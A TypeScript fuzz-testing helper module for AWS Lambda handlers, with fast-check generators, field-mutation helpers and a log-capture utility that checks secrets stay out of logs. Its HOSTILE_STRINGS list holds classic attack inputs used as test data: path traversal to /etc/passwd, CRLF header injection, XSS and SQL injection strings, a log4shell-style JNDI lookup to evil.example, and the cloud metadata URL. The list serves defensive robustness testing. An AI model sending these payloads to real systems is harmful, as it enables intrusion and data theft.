/**
 * Shared fast-check arbitraries and harness helpers for the handler fuzz suites (test/fuzz/*.test.ts).
 *
 * Run counts come from STAGECREW_FUZZ_RUNS (default 200 per property, so every fuzz suite together stays well
 * inside CI's time on two cores); scripts/fuzz-nightly.ts sets 10,000. STAGECREW_FUZZ_SEED replays a failure.
 */
import fc from 'fast-check';
import { logger } from '#core/powertools';

const positiveInt = (name: string, raw: string | undefined, fallback: number): number => {
  if (raw === undefined || raw.trim() === '') return fallback;
  const n = Number(raw);
  if (!Number.isSafeInteger(n) || n < 1) throw new Error(`${name} must be a positive integer, got "${raw}"`);
  return n;
};

/** fast-check seeds are any 32-bit integer, negative ones included (as printed in a failure report). */
const integerSeed = (raw: string): number => {
  const n = Number(raw);
  if (!Number.isSafeInteger(n)) throw new Error(`STAGECREW_FUZZ_SEED must be an integer, got "${raw}"`);
  return n;
};

/** Inputs per property. */
export const FUZZ_RUNS = positiveInt('STAGECREW_FUZZ_RUNS', process.env.STAGECREW_FUZZ_RUNS, 200);

/** fast-check parameters for every property: the run count and, when given, the seed to replay. */
export const fuzzParams = (): fc.Parameters<unknown> => {
  const seed = process.env.STAGECREW_FUZZ_SEED;
  return {
    numRuns: FUZZ_RUNS,
    ...(seed ? { seed: integerSeed(seed) } : {}),
  };
};

/** A per-test timeout that grows with the run count (the nightly count needs minutes, CI's needs seconds). */
export const fuzzTimeout = (msPerRun: number): number => Math.max(30_000, FUZZ_RUNS * msPerRun);

/** Values that have broken parsers, templates, headers and file paths elsewhere. */
export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '..\\..\\windows\\win.ini',
  '/approvals/../admin',
  'x\r\nSet-Cookie: session=evil',
  'x\nLocation: https://evil.example',
  'a\u0000b',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' OR '1'='1",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style payload, deliberately literal
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '$.__proto__.polluted',
  '__proto__',
  'constructor',
  '\u202eevil\u202c',
  '\ud800',
  '\udfff\ud800',
  '🚀💥'.repeat(50),
  'Ω≈ç√∫˜µ≤≥÷',
  '%ZZ',
  '%E0%A4%A',
  'http://169.254.169.254/latest/meta-data/',
  'file:///etc/passwd',
  'arn:aws:cloudformation:us-east-1:999999999999:stack/not-ours/1',
  'null',
  'NaN',
  '-1',
  '1e309',
];

/** Strings: hostile constants, arbitrary unicode (graphemes and lone surrogates), and large ones. */
export const hostileString = (): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
    { weight: 3, arbitrary: fc.string({ unit: 'grapheme', maxLength: 80 }) },
    { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 80 }) },
    { weight: 1, arbitrary: fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 8 }).map(repeatTo(70_000)) },
  );

const repeatTo = (size: number) => (s: string) => s.repeat(Math.ceil(size / Math.max(1, s.length))).slice(0, size);

/** A string that is not valid JSON (truncated, trailing commas, bare words, …). */
export const malformedJson = (): fc.Arbitrary<string> =>
  fc
    .oneof(
      fc.constantFrom(
        '{',
        '{"task":',
        '{"task":"gate",}',
        "{'task':'gate'}",
        'undefined',
        '[1,2',
        '{"a":1}}',
        '\u0000',
      ),
      fc.jsonValue().map((v) => JSON.stringify(v).slice(0, -1)),
      fc.string({ maxLength: 40 }),
    )
    .filter((s) => {
      try {
        JSON.parse(s);
        return false;
      } catch {
        return true;
      }
    });

/** Any value at all: wrong types at the top level (numbers, arrays, null, functions' worth of objects). */
export const anyInput = (): fc.Arbitrary<unknown> =>
  fc.oneof(
    fc.anything({ maxDepth: 3 }),
    fc.jsonValue({ maxDepth: 4 }),
    malformedJson(),
    hostileString(),
    fc.constantFrom(undefined, null, 0, -1, true, [], {}, Number.NaN),
  );

/** A value of some type, used to replace a field with the wrong type. */
export const wrongValue = (): fc.Arbitrary<unknown> =>
  fc.oneof(
    hostileString(),
    fc.constantFrom(null, true, false, 0, -1, 1.5, Number.MAX_SAFE_INTEGER, [], {}, [null], { '': '' }),
    fc.jsonValue({ maxDepth: 2 }),
  );

type Path = Array<string | number>;

/** Every path in a JSON-like value (objects and arrays, inner nodes and leaves). */
export const pathsOf = (value: unknown, prefix: Path = []): Path[] => {
  if (value === null || typeof value !== 'object') return [];
  const entries: Array<[string | number, unknown]> = Array.isArray(value)
    ? value.map((v, i) => [i, v])
    : Object.entries(value as Record<string, unknown>);
  return entries.flatMap(([k, v]) => [[...prefix, k], ...pathsOf(v, [...prefix, k])]);
};

export type Mutation = { path: Path; op: 'delete' } | { path: Path; op: 'set'; value: unknown };

/** Applies one mutation to a deep copy of `base`. */
export const applyMutation = <T>(base: T, m: Mutation): T => {
  const copy = structuredClone(base) as unknown;
  let node = copy as Record<string | number, unknown>;
  for (const key of m.path.slice(0, -1)) node = node[key] as Record<string | number, unknown>;
  const last = m.path[m.path.length - 1] as string | number;
  if (m.op === 'delete') {
    if (Array.isArray(node) && typeof last === 'number') node.splice(last, 1);
    else delete node[last];
  } else node[last] = m.value;
  return copy as T;
};

/** A valid event with 1–3 fields deleted or replaced by a wrong type or a hostile value. */
export const mutated = <T>(base: T): fc.Arbitrary<{ event: T; mutations: Mutation[] }> => {
  const paths = pathsOf(base);
  const mutation: fc.Arbitrary<Mutation> = fc.oneof(
    fc.record({ path: fc.constantFrom(...paths), op: fc.constant('delete' as const) }),
    fc.record({ path: fc.constantFrom(...paths), op: fc.constant('set' as const), value: wrongValue() }),
  );
  return fc.array(mutation, { minLength: 1, maxLength: 3 }).map((mutations) => {
    let event = base;
    // A later mutation may point below a field an earlier one removed: skip it rather than throw.
    for (const m of mutations) {
      try {
        event = applyMutation(event, m);
      } catch {
        // path no longer exists
      }
    }
    return { event, mutations };
  });
};

/** A secret-looking marker that is easy to find in captured output and never occurs by accident. */
export const secretMarker = (prefix: string): fc.Arbitrary<string> =>
  fc
    .string({ unit: fc.constantFrom(...'ABCDEFGHJKLMNPQRSTUVWXYZ23456789'), minLength: 24, maxLength: 24 })
    .map((s) => `${prefix}${s}`);

/**
 * Captures everything the Powertools logger (and anything else) writes while a test runs, at DEBUG level, so
 * a property can assert that no secret reaches the logs. The logger writes through its `console` (the global
 * console in POWERTOOLS_DEV mode, its own otherwise); both it and the process streams are intercepted.
 */
export const captureLogs = () => {
  const lines: string[] = [];
  const sink = (...args: unknown[]) => {
    lines.push(args.map((a) => (typeof a === 'string' ? a : safeJson(a))).join(' '));
  };
  const target = (logger as unknown as { console: Console }).console;
  const consoles = target === console ? [console] : [target, console];
  const restores: Array<() => void> = [];
  for (const c of consoles) {
    for (const method of ['log', 'debug', 'info', 'warn', 'error', 'trace'] as const) {
      const original = c[method];
      c[method] = sink;
      restores.push(() => {
        c[method] = original;
      });
    }
  }
  for (const stream of [process.stdout, process.stderr]) {
    const original = stream.write;
    stream.write = ((chunk: unknown) => {
      lines.push(typeof chunk === 'string' ? chunk : Buffer.from(chunk as Uint8Array).toString('utf8'));
      return true;
    }) as typeof stream.write;
    restores.push(() => {
      stream.write = original;
    });
  }
  // The lambda-context middleware resets the level to the initial one on every invocation (sampling refresh),
  // so the initial level itself is raised (a runtime method of the Logger, not in its public typings).
  const levels = logger as unknown as { setInitialLogLevel(level: string): void };
  const level = logger.getLevelName();
  levels.setInitialLogLevel('DEBUG');
  logger.setLogLevel('DEBUG');
  return {
    text: () => lines.join('\n'),
    lines,
    clear: () => {
      lines.length = 0;
    },
    restore: () => {
      levels.setInitialLogLevel(level);
      logger.setLogLevel(level);
      for (const r of restores.reverse()) r();
    },
  };
};

const safeJson = (v: unknown): string => {
  try {
    return JSON.stringify(v) ?? String(v);
  } catch {
    return String(v);
  }
};

/** A full Lambda context (the Powertools middlewares read its fields). */
export const lambdaContext = (remainingMs = 110_000) => ({
  functionName: 'stagecrew-fuzz',
  functionVersion: '$LATEST',
  invokedFunctionArn: 'arn:aws:lambda:us-east-1:111111111111:function:stagecrew-fuzz',
  memoryLimitInMB: '256',
  awsRequestId: 'fuzz-request',
  logGroupName: '/aws/lambda/stagecrew-fuzz',
  logStreamName: 'fuzz',
  callbackWaitsForEmptyEventLoop: true,
  getRemainingTimeInMillis: () => remainingMs,
  done: () => {},
  fail: () => {},
  succeed: () => {},
});
